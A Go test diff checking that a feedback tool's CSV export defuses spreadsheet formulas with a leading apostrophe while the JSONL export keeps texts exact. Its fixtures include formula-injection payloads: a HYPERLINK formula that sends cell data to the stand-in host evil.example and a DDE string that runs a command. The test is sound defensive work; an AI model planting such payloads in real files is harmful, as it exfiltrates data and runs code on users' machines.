@@ -355,3 +355,83 @@ func TestExportRefusals(t *testing.T) {
 		}
 	})
 }
+
+// TestExportCSVNeutralisesFormulas exports feedback whose texts a
+// spreadsheet would run as formulas: the CSV cells get a leading
+// apostrophe, numbers stay numbers, and the JSONL export keeps every text
+// exact.
+func TestExportCSVNeutralisesFormulas(t *testing.T) {
+	storagetest.Each(t, func(t *testing.T, db *storage.DB) {
+		f := newFixture(t, db, false)
+		texts := map[string]string{
+			"t1": `=HYPERLINK("https://evil.example/?"&A1,"Click")`,
+			"t2": "+cmd|' /C calc'!A0",
+			"t3": "-2+3",
+			"t4": "@SUM(A1:A9)",
+			"t5": "\tindented",
+			"t6": "\rreturn",
+			"t7": "-5",
+			"t8": "plain, with a comma",
+		}
+		var traces []map[string]any
+		for id, s := range texts {
+			traces = append(traces, map[string]any{"id": id, "input": s, "output": "answer " + id})
+		}
+		b, _ := json.Marshal(traces)
+		if _, err := f.svc.ImportTraces(admin, f.ws.ID, "", bytes.NewReader(b), workshop.FormatJSON, false); err != nil {
+			t.Fatal(err)
+		}
+		if _, err := f.svc.Begin(admin, f.ws.ID, "", len(texts), false); err != nil {
+			t.Fatal(err)
+		}
+		a := f.as(f.alice)
+		for id, s := range texts {
+			if _, err := f.svc.SubmitFeedback(a, f.ws.ID, workshop.FeedbackInput{TraceID: id, Label: "bad", Comment: s}); err != nil {
+				t.Fatal(err)
+			}
+		}
+		text, _ := exportText(t, f, workshop.ExportCSV)
+		rows, err := csv.NewReader(strings.NewReader(text)).ReadAll()
+		if err != nil || len(rows) != len(texts)+1 {
+			t.Fatalf("the CSV: %d rows, %v\n%s", len(rows), err, text)
+		}
+		col := func(row []string, name string) string { return row[slices.Index(workshop.CSVHeader, name)] }
+		for _, row := range rows[1:] {
+			id := col(row, "trace_id")
+			// Comments are trimmed of white space when given.
+			input, comment := texts[id], strings.TrimSpace(texts[id])
+			if id != "t7" && id != "t8" {
+				input = "'" + input
+			}
+			if id != "t5" && id != "t6" && id != "t7" && id != "t8" {
+				comment = "'" + comment
+			}
+			if got := col(row, "comment"); got != comment {
+				t.Errorf("%s: comment cell %q, want %q", id, got, comment)
+			}
+			if got := col(row, "trace_input"); got != input {
+				t.Errorf("%s: trace_input cell %q, want %q", id, got, input)
+			}
+		}
+
+		jsonl, _ := exportText(t, f, workshop.ExportJSONL)
+		sc := bufio.NewScanner(strings.NewReader(jsonl))
+		seen := 0
+		for sc.Scan() {
+			var r workshop.FeedbackRecord
+			if err := json.Unmarshal(sc.Bytes(), &r); err != nil {
+				t.Fatal(err)
+			}
+			want := texts[r.Trace.ID]
+			enc, _ := json.Marshal(strings.TrimSpace(want))
+			enc = bytes.ReplaceAll(enc, []byte(`\u0026`), []byte("&"))
+			if r.Comment != strings.TrimSpace(want) || r.Trace.InputText != want || !bytes.Contains(sc.Bytes(), []byte(`"comment":`+string(enc))) {
+				t.Errorf("%s: the JSONL comment is %q, input %q, want %q exactly: %s", r.Trace.ID, r.Comment, r.Trace.InputText, want, sc.Bytes())
+			}
+			seen++
+		}
+		if seen != len(texts) {
+			t.Errorf("%d JSONL records", seen)
+		}
+	})
+}
